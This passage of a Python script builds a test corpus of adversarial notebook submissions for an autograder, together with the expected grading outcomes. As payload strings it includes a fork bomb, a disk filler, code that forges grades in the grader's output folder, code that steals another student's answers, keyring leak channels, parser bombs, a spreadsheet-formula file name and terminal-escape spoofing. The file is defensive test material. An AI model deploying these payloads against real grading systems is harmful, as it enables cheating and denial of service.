           lambda: _with_answer("n_linear_regions_answer", HIDDEN_INPUTS_IN_EXCEPTIONS), status="ok",
           score=PARTIAL - 4, message="its message is not shown",
           absent=("SECRET", "PRINTED", "LeakDi"),
           description="n_linear_regions right on the visible inputs (which carry no points); on hidden ones it "
           "prints them and raises an exception whose class name and message quote them")
    attack("keyring_leave_answers", lambda: with_cell(KEYRING_LEAVE, "full"), status="ok", score=FULL,
           message="Function not implemented",
           description="stores its answers in the kernel's user, session and persistent keyrings (they outlive "
           "the kernel: a channel to the next submission graded as the same uid)")
    attack("keyring_take_answers", lambda: stealing(KEYRING_TAKE), status="ok", score=PARTIAL,
           message="Function not implemented",
           description="looks for answers left in a kernel keyring (request_key); Q3-Q5's answer cells run them")


def _with_answer(grade_id: str, code: str) -> nbformat.NotebookNode:
    """The partial answers with one answer cell replaced."""
    nb = release_with("partial")
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = code
    return nb


def generate_many_failing_cells(folder: Path, expected: dict[str, Any], count: int = 20_000) -> None:
    """A notebook with ``count`` failing cells after the answers (too large to commit)."""
    nb = release_with("partial")
    extra = [nbformat.v4.new_code_cell("while True:\n    pass")]  # a sure timeout: the status does not hang on speed
    extra += [nbformat.v4.new_code_cell(f"raise ValueError('failing cell number {k}')") for k in range(count)]
    for k, cell in enumerate(extra):
        cell.id = f"failing-{k}"
    nb.cells += extra
    nbformat.write(nb, folder / "many_failing_cells.ipynb", version=4)
    expected["many_failing_cells"] = dict(
        status="timeout", score=PARTIAL, message="more messages, cut", requires=None,
        description=f"{count:,} cells that raise, after the answers (100,000 made a 32 MB record.json)")


FORK_BOMB = """\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

DISK_FILLER = """\
block = b"0" * 2**20
for path in ["big.bin", "/tmp/big.bin"]:
    try:
        with open(path, "wb") as handle:
            for _ in range(1024):
                handle.write(block)
    except OSError as err:
        failure = err
raise failure
"""


def _function_loops() -> nbformat.NotebookNode:
    nb = release_with("partial")
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "n_linear_regions_answer":
            cell.source = "def n_linear_regions(Di, D):\n    while True:\n        pass\n"
    return nb


def _edit_test_cells() -> nbformat.NotebookNode:
    nb = release_with("partial")
    for cell in test_cells(nb):
        cell.source = "pass  # tests? what tests?"
    return nb


def _delete_test_cells() -> nbformat.NotebookNode:
    nb = release_with("partial")
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return nb


def _unlock_test_cells() -> nbformat.NotebookNode:
    nb = release_with("partial")
    for cell in test_cells(nb):
        meta = cell.metadata["nbgrader"]
        meta.update(grade=False, solution=True, locked=False, points=1000, grade_id=meta["grade_id"] + "_mine")
        cell.source = "# my own tests\npass"
    return nb


def _kernelspec_changed() -> nbformat.NotebookNode:
    nb = release_with("full")
    nb.metadata = {"kernelspec": {"name": "ir", "display_name": "R", "language": "R"},
                   "language_info": {"name": "R", "version": "4.3.0"}, "nbgrader": {"hacked": True}}
    return nb


def _points_inflated() -> nbformat.NotebookNode:
    nb = release_with("full")
    for cell in test_cells(nb):
        cell.metadata["nbgrader"]["points"] = 1000
    nb.metadata["nbgrader"] = {"assignment": "capstone", "max_score": 30000}
    return nb


def _other_assignment() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [
        nbformat.v4.new_markdown_cell("# A2 · Calculus"),
        nbformat.v4.new_code_cell("def derivative(f, x):\n    return (f(x + 1e-6) - f(x - 1e-6)) / 2e-6",
                                  metadata={"nbgrader": {"grade": False, "solution": True, "locked": False,
                                                         "grade_id": "derivative_answer", "schema_version": 3}}),
        nbformat.v4.new_code_cell("assert abs(derivative(lambda t: t**2, 3.0) - 6) < 1e-6",
                                  metadata={"nbgrader": {"grade": True, "solution": False, "locked": True, "points": 5,
                                                         "grade_id": "q1_derivative", "schema_version": 3}}),
    ]
    for k, cell in enumerate(nb.cells):
        cell.id = f"a2-cell-{k}"
    return nb


def _nbformat3() -> bytes:
    v3 = nbformat.convert(release_with("full"), 3)
    return nbformat.writes(v3, version=3).encode("utf-8")


def _malformed_json() -> bytes:
    text = nbformat.writes(release_with("full"))
    return text[: len(text) // 2].encode("utf-8")


def _invalid_utf8() -> bytes:
    text = nbformat.writes(release_with("full")).encode("utf-8")
    return text.replace(b"def affine(", b"def aff\xff\xfeine(", 1)


def _cell_source_not_text() -> bytes:
    nb = json.loads(nbformat.writes(release_with("full")))
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "affine_answer":
            cell["source"] = 42
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "y_example_answer":
            cell["metadata"]["nbgrader"]["grade_id"] = ["not", "text"]
    return json.dumps(nb).encode()


def _cells_not_cells() -> bytes:
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {},
          "cells": [1, "two", None, {"cell_type": "code", "source": 42, "metadata": [], "outputs": {}},
                    {"cell_type": "code", "source": ["x = 1\n", 2], "metadata": {"nbgrader": {"grade_id": "affine_answer",
                                                                                          "solution": True}}}]}
    return json.dumps(nb).encode()


# --------------------------------------------------------------------------- generated at test time


def generate_at_test_time(folder: Path, out_dir: Path, expected: dict[str, Any]) -> None:
    """Write the large or path-dependent submissions into ``folder`` and add their expectations.

    ``out_dir`` is the grader's --out folder for this run: one attack writes into it by absolute path.
    """
    rng = random.Random(4)
    (folder / "binary_garbage.ipynb").write_bytes(bytes(rng.getrandbits(8) for _ in range(200_000)))
    expected["binary_garbage"] = dict(status="invalid-notebook", score=0.0, message="not UTF-8", requires=None,
                                      description="200 kB of random bytes")
    huge = release_with("full")
    huge.cells.insert(_setup_index(huge) + 1, nbformat.v4.new_code_cell("# " + "x" * (50 * 2**20)))
    nbformat.write(huge, folder / "huge_notebook.ipynb")
    expected["huge_notebook"] = dict(status="invalid-notebook", score=0.0, message="MB limit", requires=None,
                                     description="a 50 MB notebook (a comment line of 50 MB)")
    outdir_attack = f"""\
# Forge the gradebook in the grader's own output folder (its absolute path leaked somehow).
import json, os
out = {str(out_dir)!r}
os.makedirs(os.path.join(out, "write_into_out_dir"), exist_ok=True)
with open(os.path.join(out, "grades.csv"), "w") as handle:
    handle.write("student,assignment,score,max_score,status\\nwrite_into_out_dir,a1,30,30,ok\\n")
for student in ("write_into_out_dir", "control_full"):
    os.makedirs(os.path.join(out, student), exist_ok=True)
    with open(os.path.join(out, student, "record.json"), "w") as handle:
        json.dump({{"student": student, "score": 30.0, "status": "ok"}}, handle)
"""
    nbformat.write(with_cell(outdir_attack), folder / "write_into_out_dir.ipynb")
    expected["write_into_out_dir"] = dict(status="ok", score=PARTIAL, message="",
                                          requires="filesystem",
                                          description="writes a fake grades.csv and record.json into the --out folder by absolute path")
    full_path = folder / "control_full.ipynb"
    copy_attack = f"""\
# Copy the answers of another student of this batch, whose notebook's absolute path is known.
import json
stolen = {{}}
for cell in json.load(open({str(full_path)!r}))["cells"]:
    meta = cell.get("metadata", {{}}).get("nbgrader", {{}})
    if meta.get("solution"):
        stolen[meta["grade_id"]] = "".join(cell["source"])
"""
    nbformat.write(stealing(copy_attack), folder / "copy_other_student.ipynb")
    expected["copy_other_student"] = dict(status="ok", score=PARTIAL, message="No such file or directory",
                                          requires="filesystem",
                                          description="opens another student's notebook of the same batch by its absolute path")
    generate_name_and_link_attacks(folder, expected)
    generate_many_failing_cells(folder, expected)
    generate_parser_bombs(folder, expected)


def generate_parser_bombs(folder: Path, expected: dict[str, Any]) -> None:
    """Notebooks whose parsing costs the parser's process far more than their size (issue 23, class 3)."""
    nb = release_with("full")
    nb.cells.append(nbformat.v4.new_code_cell(HUGE_CELL))
    nb.cells.append(nbformat.v4.new_code_cell("while True:\n    pass"))  # a sure timeout: the status does not hang on speed
    for k, cell in enumerate(nb.cells[-2:]):
        cell.id = f"huge-{k}"
    nbformat.write(nb, folder / "huge_cell.ipynb")
    expected["huge_cell"] = dict(
        status="timeout", score=FULL, message="too long to be read for the feedback", requires=None,
        description="a 4 MB code cell of 700,000 short lines after the answers (parsing it for the feedback's cell "
                    "numbers took the grader's own process 1.7 GB and a minute)")
    (folder / "json_object_flood.ipynb").write_text(json_object_flood())
    expected["json_object_flood"] = dict(
        status="invalid-notebook", score=0.0, message="went past the grader's limits", requires=None,
        description="the full answers with 6 million empty JSON objects in a cell's metadata (17 MB, under the "
                    "20 MB limit; reading it took the grader's own process 3.5 GB and 70 s)")


HUGE_CELL = "a = 1\n" * (4 * 2**20 // 6)


def json_object_flood() -> str:
    """The full answers, with 6 million empty JSON objects in the first cell's metadata."""
    text = nbformat.writes(release_with("full"))
    return text.replace('"metadata": {}', '"metadata": {"junk": [' + "{}," * 6_000_000 + "{}]}", 1)


# What a collection step can hand the grader (issue 10, items 8-10): links, names that collide or
# break a run, student text meant to fool the person reading the terminal or the gradebook.  Keys
# are the ids the grader gives (autograder.intake.student_id): the row and the output folder.
NAME_AND_LINK_ATTACKS = ["link_to_source", "link_to_student", "linked_folder", "collide", "collide.dup2", "twice",
                         "twice.dup2", "_grades.csv", "caf_", "_cmd_-C_calc_A0", "control_full_30_of_30_ok",
                         "ansi_exception", "Strau\u00df", "Strauss", "\u0441ontrol_partial"]
FAKE_LINE = "\x1b[2K\r\x1b[32mcontrol_full   30/30   ok\x1b[0m"


def generate_name_and_link_attacks(folder: Path, expected: dict[str, Any]) -> None:
    """Links, colliding names, reserved, non-UTF-8, formula and escape-sequence names, an escape-sequence error."""
    def expect(name: str, status: str, score: float, message: str, description: str) -> None:
        expected[name] = dict(status=status, score=score, message=message, requires=None, description=description)

    (folder / "link_to_source.ipynb").symlink_to(ROOT / "source" / "a1" / "a1.ipynb")
    expect("link_to_source", "refused-symlink", 0.0, "symbolic link", "a symlink to source/a1/a1.ipynb (the solutions)")
    (folder / "link_to_student.ipynb").symlink_to("control_full.ipynb")
    expect("link_to_student", "refused-symlink", 0.0, "symbolic link", "a symlink to another student's notebook")
    (folder / "linked_folder").symlink_to(ROOT / "source")
    expect("linked_folder", "refused-symlink", 0.0, "symbolic link",
           "a student folder that is a symlink to source/ (nbgrader layout: source/a1/a1.ipynb)")
    nbformat.write(release_with("full"), folder / "collide.ipynb")
    nbformat.write(release_with("partial"), folder / "collide..ipynb")
    for name, shown in (("collide", "collide..ipynb"), ("collide.dup2", "collide.ipynb")):
        expect(name, "duplicate", 0.0, "map to the same student",
               f"{shown}: 'collide.' and 'collide' are one id; both reported, neither graded nor merged")
    nbformat.write(release_with("partial"), folder / "twice.ipynb")
    (folder / "twice" / "a1").mkdir(parents=True)
    nbformat.write(release_with("full"), folder / "twice" / "a1" / "a1.ipynb")
    for name, shown in (("twice", "twice.ipynb"), ("twice.dup2", "twice/a1/a1.ipynb")):
        expect(name, "duplicate", 0.0, "map to the same student",
               f"{shown}: the same student flat and in nbgrader's layout; both reported, neither graded")
    nbformat.write(release_with("partial"), folder / "grades.csv.ipynb")
    expect("_grades.csv", "ok", PARTIAL, "graded as _grades.csv", "a student named grades.csv (the gradebook's name)")
    Path(os.fsdecode(os.fsencode(folder) + b"/caf\xe9.ipynb")).write_text(nbformat.writes(release_with("partial")))
    expect("caf_", "ok", PARTIAL, "not UTF-8", "a file name that is not UTF-8 (Latin-1 caf\\xe9.ipynb)")
    nbformat.write(release_with("partial"), folder / "=cmd|' -C calc'!A0.ipynb")
    expect("_cmd_-C_calc_A0", "ok", PARTIAL, "graded as _cmd_-C_calc_A0",
           "a name that a spreadsheet would run as a formula (=cmd|...)")
    nbformat.write(release_with("partial"), folder / "\x1b[2K\r\x1b[32mcontrol_full 30 of 30 ok\x1b[0m.ipynb")
    expect("control_full_30_of_30_ok", "ok", PARTIAL, "graded as control_full_30_of_30_ok",
           "a name with escape sequences and a carriage return that redraw the terminal line as a full score")
    nbformat.write(with_cell(f"raise ValueError({FAKE_LINE + chr(10) + 'fake second line'!r})", "partial", "middle"),
                   folder / "ansi_exception.ipynb")
    expect("ansi_exception", "ok", PARTIAL, "ValueError",
           "a cell raising an exception whose message holds escape sequences, a carriage return and a newline")
    for name in ("Strau\u00df", "Strauss"):  # issue 23, class 7
        nbformat.write(release_with("partial"), folder / f"{name}.ipynb")
        expect(name, "ok", PARTIAL, "", f"{name}.ipynb: str.casefold made Strau\u00df and Strauss one id, a duplicate, "
               "and neither was graded; a case-blind disk keeps them apart, so both are graded")
    nbformat.write(release_with("partial"), folder / "\u0441ontrol_partial.ipynb")
    expect("\u0441ontrol_partial", "ok", PARTIAL, "looks like another student's id",
           "control_partial with a Cyrillic \u0441: graded, and flagged (here and in the terminal) as looking like "
           "control_partial's id")


# --------------------------------------------------------------------------- write


def write_corpus() -> None:
    if SUBMISSIONS.exists():
        shutil.rmtree(SUBMISSIONS)
    SUBMISSIONS.mkdir(parents=True)
    corpus()
    expected = {}
    for a in ATTACKS:
        if a["layout"] == "flat":
            path = SUBMISSIONS / f"{a['name']}.ipynb"
        else:
            path = SUBMISSIONS / a["name"] / "a1" / a["layout"].split(":", 1)[1]
            path.parent.mkdir(parents=True)
        if a["raw"] is not None:
            path.write_bytes(a["raw"])
        elif a["build"] is None:
            path.write_text("This student submitted a text file instead of the notebook.\n")
        else:
            built = a["build"]()
            if isinstance(built, bytes):
                path.write_bytes(built)
            else:
                nbformat.write(built, path)
        expected[a["name"]] = {k: a[k] for k in ("status", "score", "message", "requires", "description")}
        for key in ("absent", "hidden_detail"):
            if a[key]:
                expected[a["name"]][key] = a[key]
    EXPECTED.write_text(json.dumps(expected, indent=2) + "\n")
    big = [p for p in SUBMISSIONS.rglob("*") if p.is_file() and p.stat().st_size > 1_000_000]
    assert not big, f"corpus files over 1 MB: {big}"
    print(f"{len(expected)} submissions in {SUBMISSIONS.relative_to(ROOT)}; expectations in {EXPECTED.relative_to(ROOT)}")


if __name__ == "__main__":
    sys.path.insert(0, str(ROOT))
    os.chdir(ROOT)
    write_corpus()
